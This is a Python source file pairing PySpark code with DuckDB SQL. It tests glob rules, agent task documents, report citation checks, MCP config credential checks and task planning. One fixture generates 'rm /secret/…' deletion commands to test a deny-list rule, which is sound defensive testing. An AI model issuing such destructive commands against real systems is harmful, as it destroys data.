"""Reports, task documents, path rules, configurations and registries, built from the driver tables by expressions that Spark and DuckDB share."""

from __future__ import annotations

import uuid

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from runlens.functions import documents, globs, text
from runlens.operators import citations, evidence, guards, registry, telemetry, upkeep
from runlens.plans import filling, tasks
from runlens.queries import query, table
from runlens.queries.telemetry import _CALLS, _calls, _stream
from runlens.sources import nested, readers, sinks
from runlens.streaming import budgets

_ID = "CAST(p_partkey AS STRING)"


def _parts(spark: SparkSession, sf_dir: str, **columns: str) -> DataFrame:
    """Rows of part as (path, columns): each column is an expression that DuckDB takes too."""
    return table(spark, sf_dir, "part").select(F.expr(_ID).alias("path"), F.col("p_partkey").alias("n"), *[F.expr(v).alias(k) for k, v in columns.items()])


_PATH = """CASE p_partkey % 10 WHEN 0 THEN 'lib/node_modules/x/' || {i} || '.js' WHEN 1 THEN 'fixtures/deep/' || {i} || '.txt' WHEN 2 THEN 'src/m' || {i} || '.g.dart' WHEN 3 THEN 'lib/buildings/' || {i} || '.dart'
 WHEN 4 THEN 'tests/t' || {i} || '.py' WHEN 5 THEN 'sub/build/out.dart' WHEN 6 THEN 'src/index.ts' WHEN 7 THEN 'a' || {i} || '.kt' WHEN 8 THEN 'pkg/__pycache__/' || {i} || '.py' ELSE 'pkg/' || {i} || '.pyc' END""".format(i=_ID)


@query("SELECT p_partkey AS n, p_partkey % 10 IN (0, 1, 2, 5, 7, 8) AS excluded, p_partkey % 10 IN (8, 9) AS cached FROM part")
def path_excludes(spark: SparkSession, sf_dir: str) -> DataFrame:
    rows = _parts(spark, sf_dir, file=_PATH)
    return rows.select("n", globs.excluded(F.col("file"), ["fixtures/**", "!tests/**", "**/*.kt"]).alias("excluded"), globs.is_cache(F.col("file")).alias("cached"))


@query("SELECT p_partkey AS n FROM part WHERE p_partkey % 10 IN (3, 4, 6) AND p_partkey % 7 <> 0")
def selected_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    rows = _parts(spark, sf_dir, file=_PATH).select("n", F.concat_ws("/", F.col("n").cast("string"), "file").alias("path"))
    return globs.unignored(globs.selected(rows, ["**/*.dart", "*.py", "*.ts"], ["!tests/**"]), rows.where("n % 7 = 0")).select("n")


_STACK = """CASE p_partkey % 6 WHEN 0 THEN 'app/pubspec.yaml' WHEN 1 THEN 'app/android/x.xml' WHEN 2 THEN 'web/package.json' WHEN 3 THEN 'package.json' WHEN 4 THEN 'pyproject.toml' ELSE 'go.mod' END"""


@query("""
WITH f AS (SELECT p_size AS project, p_partkey % 6 AS k FROM part), g AS (SELECT project, bool_or(k = 0) AS pub, bool_or(k = 1) AS nat, bool_or(k = 2) AS web, bool_or(k = 4) AS py, bool_or(k = 5) AS go FROM f WHERE k >= project % 6 GROUP BY project)
SELECT project, CASE WHEN pub OR nat THEN 'mobile' WHEN web THEN 'web' ELSE 'unknown' END AS platform, CASE WHEN pub THEN 'flutter-skill' WHEN nat THEN 'maestro' WHEN web THEN 'playwright' WHEN py THEN 'pytest' WHEN go THEN 'go test' ELSE 'unknown' END AS test_framework FROM g
""")
def stack_detection(spark: SparkSession, sf_dir: str) -> DataFrame:
    files = table(spark, sf_dir, "part").select(F.col("p_size").alias("project"), F.expr("p_partkey % 6").alias("k"), F.expr(_STACK).alias("path"), F.expr("""CASE WHEN p_partkey % 6 = 2 THEN '{"dependencies":{"react":"18"}}' ELSE '{}' END""").alias("text"))
    return globs.stack(files.where("k >= project % 6"))


_CONFIG = """CASE p_partkey % 4 WHEN 0 THEN NULL WHEN 1 THEN 'app_id: x' || chr(10) WHEN 2 THEN 'project_index_globs:' || chr(10) || '  - ''**/*.x' || {i} || '''' || chr(10) || '  - "*.py"' || chr(10) || 'next: y' || chr(10) ELSE 'a: b' || chr(10) || 'project_index_globs:' || chr(10) || '- **/*.kt' END""".format(i=_ID)


@query("""SELECT p_partkey AS n, CASE p_partkey % 4 WHEN 2 THEN '*.x' || p_partkey || ',*.py' WHEN 3 THEN '*.kt' ELSE '*.py,*.js,*.jsx,*.ts,*.tsx,*.dart' END AS patterns, p_partkey % 4 >= 2 AS detected, CASE WHEN p_partkey % 4 < 2 THEN 'no file matches; index the project so that its languages are known' ELSE 'no file matches' END AS error FROM part""")
def detected_globs(spark: SparkSession, sf_dir: str) -> DataFrame:
    told = _parts(spark, sf_dir, text=_CONFIG).select("n", globs.detected_patterns(F.col("text")).alias("d"))
    return told.select("n", F.array_join("d.patterns", ",").alias("patterns"), (F.col("d.source") == "detected").alias("detected"), globs.empty_selection(F.col("d.source")).alias("error"))


_TASK = """CASE WHEN p_partkey % 5 = 0 THEN 'no block' ELSE '---' || chr(10) || 'id: t' || {i} || chr(10) || 'role: "tester #' || CAST(p_size AS STRING) || '" # why' || chr(10) || 'status: pending  # a comment' || chr(10) || CASE WHEN p_partkey % 2 = 0 THEN 'depends_on: [t1, "t2"]' ELSE 'depends_on:' || chr(10) || '  - t3' || chr(10) || '  - ''t' || {i} || '''' END || chr(10) || 'skills_to_load: []' || chr(10) || 'k: ' || CAST(p_size AS STRING) || chr(10) || '---' || chr(10) || 'id: no' END""".format(i=_ID)


@query("SELECT 't' || p_partkey AS id, 'tester #' || p_size AS role, 'pending' AS status, CASE WHEN p_partkey % 2 = 0 THEN 't1,t2' ELSE 't3,t' || p_partkey END AS needs, CAST(0 AS BIGINT) AS skills, CAST(p_size AS INTEGER) AS k FROM part WHERE p_partkey % 5 <> 0")
def task_documents(spark: SparkSession, sf_dir: str) -> DataFrame:
    told = tasks.from_documents(_parts(spark, sf_dir, text=_TASK))
    return told.select("id", "role", "status", F.array_join("depends_on", ",").alias("needs"), F.size("skills_to_load").cast("long").alias("skills"), "k")


_REPORT = """'# R' || chr(10) || '## Categories cleared' || chr(10) || '- **A** — cleared for all of `Symbol` (count: `grep -c x' || {i} || ' src` -> ' || CASE p_partkey % 3 WHEN 0 THEN 'no' WHEN 1 THEN 'zero' ELSE CAST(p_size AS STRING) END || ' matches)' || chr(10) || '  and goes on' || chr(10) || '* **B** — cleared by: `src/a.py:' || CAST(p_size AS STRING) || '-' || CAST(p_size + 2 AS STRING) || '` "`x = ' || {i} || '`"' || chr(10) || chr(10) || 'prose' || chr(10) || '- **C** — unverified — nothing' || chr(10) || '- **D** — fine' || chr(10) || '## Findings' || chr(10) || '- no claim' || chr(10) || '### U1 one' || chr(10) || '`a/b.py:' || {i} || '` at 4.5:1' || chr(10) || '### U2 many' || chr(10) || '- `a.py:1`' || chr(10) || '- `b.py:' || {i} || '`' || chr(10) || CASE WHEN p_partkey % 2 = 0 THEN 'enumerated by: `grep -l q` -> 2 files' ELSE '' END""".format(i=_ID)


@query("""
WITH r AS (SELECT p_partkey AS n, p_size AS s FROM part)
SELECT n, CAST(3 AS INTEGER) AS line, 'search' AS kind, 'grep -c x' || n || ' src' AS what, CASE WHEN n % 3 < 2 THEN CAST(0 AS BIGINT) ELSE CAST(s AS BIGINT) END AS first, CAST(NULL AS BIGINT) AS last FROM r
UNION ALL SELECT n, 5, 'place', 'src/a.py x = ' || n, CAST(s AS BIGINT), CAST(s + 2 AS BIGINT) FROM r
UNION ALL SELECT n, 8, 'unverified', NULL, NULL, NULL FROM r UNION ALL SELECT n, 9, 'none', NULL, NULL, NULL FROM r
""")
def report_citations(spark: SparkSession, sf_dir: str) -> DataFrame:
    told = citations.cleared(_parts(spark, sf_dir, text=_REPORT)).select(F.col("path").cast("long").alias("n"), "line", citations.citation(F.col("item")).alias("c"))
    what = F.coalesce("c.command", F.concat_ws(" ", "c.path", F.nullif("c.snippet", F.lit(""))))
    return told.select("n", F.col("line").cast("int").alias("line"), "c.kind", F.when(F.col("c.kind").isin("search", "place"), what).alias("what"), F.coalesce("c.claimed", "c.first").alias("first"), "c.last")


@query("SELECT p_partkey AS n, 'U2 many' AS title, 'uncited' AS status, 'lists 2 sites without a search' AS detail FROM part WHERE p_partkey % 2 = 1")
def multi_site_findings(spark: SparkSession, sf_dir: str) -> DataFrame:
    return citations.unenumerated(_parts(spark, sf_dir, text=_REPORT)).select(F.col("path").cast("long").alias("n"), "title", "status", "detail")


@query("""
WITH r AS (SELECT p_partkey AS n FROM part WHERE p_partkey % 4 <> 3), c AS (SELECT p_partkey AS n, CASE p_partkey % 3 WHEN 0 THEN 'incomplete' ELSE 'complete' END AS coverage FROM part WHERE p_partkey % 4 <> 2)
SELECT coalesce(r.n, c.n) AS n, CAST(CASE WHEN r.n IS NULL THEN 0 ELSE 1 + CASE WHEN r.n % 2 = 1 THEN 1 ELSE 0 END END AS BIGINT) AS failing, coverage, CAST(CASE WHEN r.n IS NOT NULL OR coverage = 'incomplete' THEN 1 ELSE 0 END AS INTEGER) AS exit FROM r FULL JOIN c ON r.n = c.n
""")
def verdict_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    docs = _parts(spark, sf_dir, text=_REPORT)
    reports = docs.where("n % 4 <> 3")
    cleared = citations.cleared(reports).select(F.col("path").alias("report"), F.when(citations.citation(F.col("item"))["kind"] == "none", "uncited").otherwise("unverified").alias("status"))
    claims = cleared.unionByName(citations.unenumerated(reports).select(F.col("path").alias("report"), "status"))
    coverage = docs.where("n % 4 <> 2").select(F.col("path").alias("report"), F.when(F.col("n") % 3 == 0, "incomplete").otherwise("complete").alias("status"))
    return citations.verdict(claims, coverage).select(F.col("report").cast("long").alias("n"), "failing", "coverage", "exit")


_LINES = "WITH l AS (SELECT doc_id AS path, unnest(string_split(text, chr(10))) AS text, unnest(range(1, len(string_split(text, chr(10))) + 1)) AS line FROM documents WHERE text IS NOT NULL), "


@query(_LINES + """
w AS (SELECT path, line, trim(regexp_replace(text, '[ \\t\\n\\x0B\\f\\r]+', ' ', 'g')) AS t FROM l),
c AS (SELECT path AS claim_id, line + path % 5 AS first, t AS snippet FROM w WHERE line = 1 AND length(t) > 10),
m AS (SELECT claim_id, bool_or(contains(t, snippet) AND w.line = first) AS own, bool_or(contains(t, snippet) AND abs(w.line - first) <= 2) AS near FROM c JOIN w ON w.path = claim_id GROUP BY claim_id)
SELECT claim_id, CASE WHEN own THEN 'reproduced' WHEN near THEN 'stale' ELSE 'mismatch' END AS status FROM m
""")
def citation_verdicts(spark: SparkSession, sf_dir: str) -> DataFrame:
    lines = citations.lines(table(spark, sf_dir, "documents").where("text IS NOT NULL").withColumn("path", F.col("doc_id").cast("string")))
    flat = F.trim(F.regexp_replace("text", r"\s+", " "))
    first = F.col("line") + F.col("path").cast("long") % 5
    claims = lines.where("line = 1").select(F.col("path").cast("long").alias("claim_id"), "path", first.alias("first"), first.alias("last"), flat.alias("snippet")).where("length(snippet) > 10")
    return citations.places(claims, lines)


_CODE = "'one' || chr(10) || 'x = ' || {i} || chr(10) || '  default:' || chr(10) || '    // note' || chr(10) || '    return ' || {i} || ';' || chr(10) || 'end'".format(i=_ID)
_PLACES = [("a", "{p}", 2, 2, "x = {i}", "reproduced"), ("b", "{p}", 3, 5, "default: ... return {i};", "reproduced"), ("c", "{p}", 3, 5, "return {i}; ... default:", "mismatch"), ("d", "{p}", 6, 6, "return {i};", "stale"), ("e", "{p}", 1, 2, "one x = {i}", "reproduced"), ("f", "../{p}", 1, 1, "one", "unrunnable"), ("g", "no{p}", 1, 1, "one", "failed"), ("h", "{p}", 900, 901, "one", "mismatch")]


@query("SELECT p_partkey AS n, kind, status FROM part, (VALUES " + ", ".join(f"('{k}', '{s}')" for k, *_, s in _PLACES) + ") AS v(kind, status)")
def cited_ranges(spark: SparkSession, sf_dir: str) -> DataFrame:
    docs = _parts(spark, sf_dir, text=_CODE)
    kinds = F.array(*[F.struct(F.lit(k).alias("kind"), F.format_string(p.replace("{p}", "%s"), "path").alias("path"), F.lit(a).cast("long").alias("first"), F.lit(b).cast("long").alias("last"), F.replace(F.lit(s), F.lit("{i}"), F.col("path")).alias("snippet")) for k, p, a, b, s, _ in _PLACES])
    claims = docs.select("n", F.explode(kinds).alias("c")).select(F.struct("n", "c.kind").alias("claim_id"), "c.path", "c.first", "c.last", "c.snippet")
    return citations.places(claims, citations.lines(docs)).select("claim_id.n", "claim_id.kind", "status")


_ENUM = r"""'## design-critic' || chr(10) || '| # | item | kind | enumerate | baseline |' || chr(10) || '|---|---|---|---|---|' || chr(10) || '| 1 | a | candidates | `grep ' || {i} || ' src` | ' || CAST(p_size AS STRING) || ' |' || chr(10) || '| 2 | b | violations | `grep x \\| grep -v y` |  |' || chr(10) || '| 3 | c | violations | `<command>` | 0 |' || chr(10) || '| 4 | d | violations | <command> | 0 |' || chr(10) || '| 5 | e | | `grep z` | n/a |' || chr(10) || '## auditor' || chr(10) || '| # | item | kind | enumerate | baseline |' || chr(10) || '|---|---|---|---|---|' || chr(10) || '| 1 | q | candidates | `other` | 4 |'""".format(i=_ID)


@query("""SELECT p_partkey AS n, CAST(item AS INTEGER) AS item, kind, CASE item WHEN 1 THEN 'grep ' || p_partkey || ' src' WHEN 2 THEN 'grep x | grep -v y' ELSE 'grep z' END AS command, CASE WHEN item = 1 THEN CAST(p_size AS BIGINT) END AS baseline FROM part, (VALUES (1, 'candidates'), (2, 'violations'), (5, 'candidates')) AS v(item, kind)""")
def declared_searches(spark: SparkSession, sf_dir: str) -> DataFrame:
    told = citations.declared_enumerations(_parts(spark, sf_dir, text=_ENUM), "Design-critic")
    return told.select(F.col("path").cast("long").alias("n"), "item", "kind", "command", "baseline")


@query("SELECT 'auditor' AS role")
def unreported_roles(spark: SparkSession, sf_dir: str) -> DataFrame:
    reports = table(spark, sf_dir, "part").select(F.when(F.col("p_partkey") % 2 == 0, "design-critic").otherwise("security-reviewer").alias("role"), F.expr(_ID).alias("location"))
    return citations.unreported_roles(reports)


@query(_LINES + """m AS (SELECT 'd' || path || CASE WHEN path % 2 = 0 THEN '.txt' ELSE '.md' END AS path, text FROM l WHERE regexp_matches(text, '[0-9]{3}'))
SELECT path, count(*) AS n FROM m WHERE path LIKE '%.txt' AND NOT contains(text, 'the') GROUP BY path""")
def files_with_matches(spark: SparkSession, sf_dir: str) -> DataFrame:
    docs = table(spark, sf_dir, "documents").where("text IS NOT NULL").select(F.concat(F.lit("d"), "doc_id", F.when(F.col("doc_id") % 2 == 0, ".txt").otherwise(".md")).alias("path"), "text")
    return citations.searched_files(citations.lines(docs), "[0-9]{3}", "*.txt", "the")


@query(_LINES + "m AS (SELECT text FROM l WHERE contains(text, 'the')) SELECT DISTINCT md5(text) AS text FROM m")
def distinct_matches(spark: SparkSession, sf_dir: str) -> DataFrame:
    docs = table(spark, sf_dir, "documents").where("text IS NOT NULL").select(F.col("doc_id").alias("path"), "text")
    return citations.distinct_lines(citations.lines(docs), "the").select(F.md5(F.col("text").cast("binary")).alias("text"))


_SKILL = """CASE p_partkey % 4 WHEN 0 THEN '## Purpose' || chr(10) || 'does ' || {i} || chr(10) || '## Planner hints' || chr(10) || '- look' || chr(10) WHEN 1 THEN '## Purpose' || chr(10) || 'p' || chr(10) || '## Rules' || chr(10) || '1. x' WHEN 2 THEN '## Rules' || chr(10) || '1. x' ELSE NULL END""".format(i=_ID)


@query("""
SELECT -p_partkey AS pos, '' || p_partkey AS skill, CASE p_partkey % 4 WHEN 3 THEN NULL ELSE '## ' || p_partkey || chr(10) || '### Purpose' || chr(10) || CASE p_partkey % 4 WHEN 0 THEN 'does ' || p_partkey WHEN 1 THEN 'p' ELSE '(none)' END || chr(10) || '### Planner hints' || chr(10) || CASE p_partkey % 4 WHEN 0 THEN '- look' ELSE '(none)' END END AS body,
  CASE p_partkey % 4 WHEN 3 THEN p_partkey || ': no document' WHEN 2 THEN p_partkey || ': missing ''## Purpose''' END AS note FROM part
""")
def skill_digest(spark: SparkSession, sf_dir: str) -> DataFrame:
    rows = _parts(spark, sf_dir, text=_SKILL)
    return citations.digest(rows.where("text IS NOT NULL").select(F.col("path").alias("skill"), "text"), rows.select((-F.col("n")).alias("pos"), F.col("path").alias("skill")))


_REVIEW = "'## Design' || chr(10) || 'stuff' || chr(10) || '## review' || chr(10) || CASE WHEN p_partkey % 3 = 0 THEN '' ELSE 'bad ' || {i} || chr(10) END || '<!-- only' || chr(10) || 'here -->' || chr(10) || '## Test results' || chr(10) || 'ok'".format(i=_ID)


@query("SELECT p_partkey AS n, CASE WHEN p_partkey % 3 <> 0 THEN 'bad ' || p_partkey END AS body FROM part")
def review_bodies(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _parts(spark, sf_dir, text=_REVIEW).select("n", documents.review_body(F.col("text")).alias("body"))


_BLANKS = "[ \\t\\n\\x0B\\f\\r]+"


@query(f"""
WITH RECURSIVE d AS (SELECT doc_id AS path, '# H' || doc_id || chr(10) || chr(10) || replace(text, chr(10), chr(10) || chr(10)) AS text FROM documents WHERE text IS NOT NULL),
p AS (SELECT path, unnest(range(len(x))) AS para, trim(unnest(x), ' ' || chr(9) || chr(10) || chr(11) || chr(12) || chr(13)) AS t FROM (SELECT path, string_split_regex(text, '\\n[ \\t]*\\n') AS x FROM d)),
c AS (SELECT path, para, CASE WHEN len(string_split_regex(t, '{_BLANKS}')) <= 40 THEN [t] ELSE string_split(regexp_replace(t, '([.!?]){_BLANKS}', '\\1' || chr(1), 'g'), chr(1)) END AS s FROM p WHERE t <> ''),
e AS (SELECT path, para, unnest(range(len(s))) AS k, unnest(s) AS t FROM c),
f AS (SELECT path, para, k, t, string_split_regex(t, '{_BLANKS}') AS w FROM e WHERE t <> ''),
g AS (SELECT path, para, k, unnest(range(0, len(w), 40)) AS b, t, w FROM f),
u AS (SELECT path, para, row_number() OVER (PARTITION BY path ORDER BY para, k, b) AS i, CASE WHEN len(w) > 40 THEN array_to_string(w[b + 1:b + 40], ' ') ELSE t END AS t, least(40, len(w) - b) AS n FROM g),
o AS (SELECT *, sum(n) OVER (PARTITION BY path ORDER BY i) AS upto, last_value(nullif(regexp_extract(t, '(?m)^#{{1,6}}[ \\t]+(.*?)[ \\t]*$', 1), '') IGNORE NULLS) OVER (PARTITION BY path ORDER BY i) AS anchor FROM u),
j AS (SELECT x.path, x.i, count(*) AS taken FROM o x JOIN o y ON y.path = x.path AND y.i >= x.i AND y.i < x.i + 40 AND y.upto - x.upto + x.n <= 40 GROUP BY x.path, x.i),
w AS (SELECT path, CAST(1 AS BIGINT) AS i, CAST(0 AS BIGINT) AS chunk FROM o WHERE i = 1 UNION ALL SELECT j.path, j.i + taken, chunk + 1 FROM w JOIN j USING (path, i) WHERE EXISTS (SELECT 1 FROM o WHERE o.path = j.path AND o.i = j.i + taken)),
r AS (SELECT o.*, w.chunk, w.i AS first FROM o ASOF JOIN w ON o.path = w.path AND o.i >= w.i),
h AS (SELECT *, CASE WHEN i = first THEN '' WHEN lag(para) OVER (PARTITION BY path ORDER BY i) = para THEN ' ' ELSE chr(10) || chr(10) END AS glue FROM r)
SELECT path, chunk, first(anchor ORDER BY i) AS anchor, md5(string_agg(glue || t, '' ORDER BY i)) AS body, CAST(sum(n) AS BIGINT) AS words FROM h GROUP BY path, chunk
""")
def document_chunks(spark: SparkSession, sf_dir: str) -> DataFrame:
    docs = table(spark, sf_dir, "documents").where("text IS NOT NULL")
    rows = docs.select(F.col("doc_id").alias("path"), F.concat(F.lit("# H"), "doc_id", F.lit("\n\n"), F.replace("text", F.lit("\n"), F.lit("\n\n"))).alias("text"))
    return citations.chunks(rows, 40).select("path", "chunk", "anchor", F.md5(F.col("text").cast("binary")).alias("body"), "words")


@query("SELECT p_partkey AS n FROM part WHERE p_partkey % 3 = 0 OR p_partkey % 5 = 0")
def files_to_index(spark: SparkSession, sf_dir: str) -> DataFrame:
    files = _parts(spark, sf_dir, hash="p_name")
    indexed = files.where("n % 5 <> 0").select("path", F.when(F.col("n") % 3 == 0, "old").otherwise(F.col("hash")).alias("hash"))
    return citations.changed_files(files, indexed).select("n")


_SERVERS = """CASE p_partkey % 6 WHEN 0 THEN '{{"mcpServers":{{"s":{{"command":"x","args":["--dsn","REPLACE_WITH_DSN"]}}}}}}' WHEN 1 THEN '{{"mcpServers":{{"s":{{"args":["--dsn","$' || '{{HOME_X}}"],"env":{{"A":"$' || '{{SET}}"}}}}}}}}' WHEN 2 THEN '{{"mcpServers":{{"s":{{"args":["--dsn","pg://' || {i} || '"]}}}}}}' WHEN 3 THEN '{{"mcpServers":{{"s":{{"args":["-v"],"env":{{"MY_TOKEN":"t' || {i} || '"}}}}}}}}' WHEN 4 THEN '{{broken' ELSE '{{"mcpServers":{{"s":{{"args":["x","--token"],"env":{{"NAME":"plain","API_KEY":"OPTIONAL_KEY"}}}}}}}}' END""".format(i=_ID)


@query("SELECT p_partkey AS n, p_partkey % 6 IN (2, 3, 4) AS holds_secret, CASE p_partkey % 6 WHEN 4 THEN NULL WHEN 0 THEN 's:warn:REPLACE_WITH_DSN' WHEN 1 THEN 's:warn:HOME_X' ELSE 's:ok:' END AS checks FROM part")
def credential_checks(spark: SparkSession, sf_dir: str) -> DataFrame:
    rows = _parts(spark, sf_dir, config=_SERVERS)
    checks = F.array_join(F.transform(documents.missing_credentials(F.col("config"), ["SET"]), lambda c: F.concat_ws(":", c["server"], c["status"], c["detail"])), ",")
    return rows.select("n", documents.holds_secret(F.col("config")).alias("holds_secret"), F.nullif(checks, F.lit("")).alias("checks"))


@query("SELECT p_partkey AS n, p_brand AS model, CASE WHEN p_brand IN (SELECT p_brand FROM part WHERE p_size < 10) THEN 'ok' ELSE 'warn' END AS status FROM part WHERE p_partkey % 7 <> 0")
def unranked_models(spark: SparkSession, sf_dir: str) -> DataFrame:
    parts = table(spark, sf_dir, "part")
    models = parts.select(F.col("p_partkey").alias("role"), F.when(F.col("p_partkey") % 7 == 0, "  ").otherwise(F.col("p_brand")).alias("model"))
    return upkeep.unranked_models(models, parts.where("p_size < 10").select(F.col("p_brand").alias("model"))).select(F.col("role").alias("n"), "model", "status")


@query("SELECT '' || p_partkey AS name, p_partkey % 3 <> 0 OR p_partkey % 2 = 0 AS same FROM part")
def compared_configuration(spark: SparkSession, sf_dir: str) -> DataFrame:
    p = table(spark, sf_dir, "part").select(F.expr(_ID).alias("name"), F.col("p_partkey").alias("n"), F.explode(F.array(F.lit("command"), F.lit("args"))).alias("field"))
    template = p.select("name", "field", F.concat("field", F.lit("!")).alias("value"))
    current = p.select("name", "field", F.when((F.col("n") % 3 == 0) & (F.col("n") % 2 == 1) & (F.col("field") == "args"), "edited").otherwise(F.concat("field", F.lit("!"))).alias("value"))
    return upkeep.compared(current.where("NOT (name = '1' AND field = 'command')"), template, ("1", "command"))


@query("SELECT p_partkey AS n, CASE p_partkey % 3 WHEN 0 THEN 'opus' WHEN 1 THEN NULL ELSE 'mid$1' END AS model, CASE p_partkey % 3 WHEN 1 THEN '---' || chr(10) || 'model: old' || chr(10) || '---' || chr(10) || 'x' ELSE '---' || chr(10) || 'model: ' || CASE p_partkey % 3 WHEN 0 THEN 'opus' ELSE 'mid$1' END || chr(10) || '---' || chr(10) || 'x' END AS text FROM part")
def stamped_roles(spark: SparkSession, sf_dir: str) -> DataFrame:
    rows = _parts(spark, sf_dir, text="'---' || chr(10) || 'model: old' || chr(10) || '---' || chr(10) || 'x'").withColumnRenamed("path", "role")
    models = rows.where("n % 3 <> 2").select("role", F.when(F.col("n") % 3 == 0, "opus").otherwise("").alias("model"))
    own = models.unionByName(spark.range(1).select(F.lit("default").alias("role"), F.lit("mid$1").alias("model")))
    return upkeep.stamped_models(rows, own).join(rows.select("role", "n"), "role").select("n", "model", "text")


_COMMAND = """CASE p_partkey % 6 WHEN 0 THEN 'git commit -m x' WHEN 1 THEN 'git -C d merge f' || {i} WHEN 2 THEN 'python3 lib/git_branch.py create ' || {i} WHEN 3 THEN 'git status' WHEN 4 THEN 'git log' ELSE 'rm /secret/' || {i} END""".format(i=_ID)


@query("SELECT p_partkey AS n, p_partkey % 6 < 2 AND p_partkey % 4 <> 0 AS denied, CASE WHEN p_partkey % 6 = 5 THEN '/secret' END AS configured, CASE WHEN p_partkey % 6 = 2 THEN 'git_branch.py' END AS script FROM part")
def role_mutations(spark: SparkSession, sf_dir: str) -> DataFrame:
    rows, role = _parts(spark, sf_dir, command=_COMMAND), F.when(F.col("n") % 4 != 0, "implementer")
    return rows.select("n", upkeep.mutates(role, F.col("command")).alias("denied"), upkeep.denied_by_configuration(F.col("command"), ["/never", "/secret"]).alias("configured"), text.script_name(F.col("command")).alias("script"))


@query("""
WITH c AS (SELECT user_id AS id, event_id AS seq, CASE event_type WHEN 'view' THEN 'pending' WHEN 'click' THEN 'running' WHEN 'purchase' THEN 'done' WHEN 'error' THEN 'blocked' ELSE 'deferred' END AS status FROM events),
w AS (SELECT *, lag(status) OVER (PARTITION BY id ORDER BY seq) AS before FROM c)
SELECT id, seq, before, status FROM w WHERE NOT CASE WHEN before IS NULL THEN status = 'pending' ELSE (before, status) IN (('pending', 'running'), ('pending', 'deferred'), ('running', 'done'), ('running', 'blocked'), ('blocked', 'pending'), ('blocked', 'deferred'), ('deferred', 'pending')) END
""")
def status_machine(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = F.col("event_type")
    status = F.when(e == "view", "pending").when(e == "click", "running").when(e == "purchase", "done").when(e == "error", "blocked").otherwise("deferred")
    return tasks.invalid_transitions(table(spark, sf_dir, "events").select(F.col("user_id").alias("id"), F.col("event_id").alias("seq"), status.alias("status")))


def _orders(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Orders as tasks: each needs the one before it by key of the same customer's parity, every 40th starts anew, every 11th needs one that isn't there."""
    needs = F.when(F.col("n") % 11 == 0, F.array(F.lit("x"))).when(F.col("n") % 4 == 1, F.array().cast("array<string>")).otherwise(F.array((F.col("n") - 1).cast("string")))
    return table(spark, sf_dir, "part").select(F.col("p_partkey").alias("n")).select(F.col("n").cast("string").alias("id"), F.when(F.col("n") % 4 == 1, "done").when(F.col("n") % 13 == 0, "blocked").otherwise("pending").alias("status"), needs.alias("depends_on"))


_ORDER_TASKS = """WITH t AS (SELECT p_partkey AS n, CASE WHEN p_partkey % 4 = 1 THEN 'done' WHEN p_partkey % 13 = 0 THEN 'blocked' ELSE 'pending' END AS status, CASE WHEN p_partkey % 11 = 0 THEN -1 WHEN p_partkey % 4 = 1 THEN NULL ELSE p_partkey - 1 END AS needs FROM part),
j AS (SELECT t.*, d.status AS other FROM t LEFT JOIN t d ON d.n = t.needs),
s AS (SELECT n, status, needs, CASE WHEN status <> 'pending' THEN 'not pending' WHEN needs IS NOT NULL AND other IS NULL THEN 'invalid' WHEN other = 'blocked' THEN 'blocked_by_dep' WHEN needs IS NULL OR other = 'done' THEN 'runnable' ELSE 'waiting' END AS state FROM j) """


@query(_ORDER_TASKS + "SELECT '' || n AS id, CAST(CASE WHEN state = 'runnable' THEN 0 ELSE 4 END AS INTEGER) AS exit_code, CASE WHEN state <> 'runnable' THEN n || ' is not runnable: ' || state END AS error FROM s")
def single_tasks(spark: SparkSession, sf_dir: str) -> DataFrame:
    rows = _orders(spark, sf_dir)
    return tasks.single_task(rows, rows.select("id"))


@query(_ORDER_TASKS + "SELECT '' || n AS id, state FROM s WHERE status = 'pending'")
def readiness(spark: SparkSession, sf_dir: str) -> DataFrame:
    return tasks.readiness(_orders(spark, sf_dir))


@query(_ORDER_TASKS + "SELECT '' || n AS id, ['x'] AS missing FROM s WHERE needs = -1")
def invalid_deps(spark: SparkSession, sf_dir: str) -> DataFrame:
    return tasks.invalid_deps(_orders(spark, sf_dir))


@query(_ORDER_TASKS + "SELECT min('' || n) FILTER (WHERE state = 'runnable') AS id, count(*) FILTER (WHERE state = 'runnable') AS runnable, count(*) FILTER (WHERE state = 'blocked_by_dep') AS blocked, CAST(CASE WHEN count(*) FILTER (WHERE state = 'runnable') > 0 THEN 0 ELSE 4 END AS INTEGER) AS exit_code FROM s")
def next_task(spark: SparkSession, sf_dir: str) -> DataFrame:
    return tasks.next_task(_orders(spark, sf_dir))


@query(_ORDER_TASKS + "SELECT CAST(NULL AS VARCHAR) AS id, CAST(0 AS BIGINT) AS runnable, CAST(2 AS BIGINT) AS on_circles, CAST(3 AS INTEGER) AS exit_code")
def plan_with_a_circle(spark: SparkSession, sf_dir: str) -> DataFrame:
    circle = spark.range(2).select(F.concat(F.lit("c"), "id").alias("id"), F.lit("pending").alias("status"), F.array(F.concat(F.lit("c"), 1 - F.col("id"))).alias("depends_on"))
    return tasks.plan(_orders(spark, sf_dir).unionByName(circle)).select("id", "runnable", "on_circles", "exit_code")


@query(_ORDER_TASKS + """, w AS (SELECT n, CASE WHEN n % 11 = 0 OR n % 4 = 1 THEN n ELSE NULL END AS root FROM t), l AS (SELECT n, last_value(root IGNORE NULLS) OVER (ORDER BY n) AS r FROM w)
SELECT '' || n AS id, CAST(n - r AS INTEGER) AS level FROM l""")
def topo_levels(spark: SparkSession, sf_dir: str) -> DataFrame:
    return tasks.levels(_orders(spark, sf_dir)).select("id", F.col("level").cast("int").alias("level"))


@query("SELECT event_id, strftime(ts, '%Y-%m-%dT%H:%M:%SZ') AS stamp FROM events")
def utc_stamps(spark: SparkSession, sf_dir: str) -> DataFrame:
    return table(spark, sf_dir, "events").select("event_id", documents.utc_stamp(F.col("ts")).alias("stamp"))


@query(_CALLS + """, s AS (SELECT run_id, event_id, octet_length(CAST('{"run_id":"' || run_id || '","ts":"2024-01-01T00:00:00.000","event_id":' || event_id || ',"tool":"' || tool || '"}' AS BLOB)) + 1 AS b FROM calls)
SELECT event_id, CAST(floor(coalesce(sum(b) OVER (PARTITION BY run_id ORDER BY event_id ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) / 1000) AS BIGINT) AS generation FROM s""")
def log_generations(spark: SparkSession, sf_dir: str) -> DataFrame:
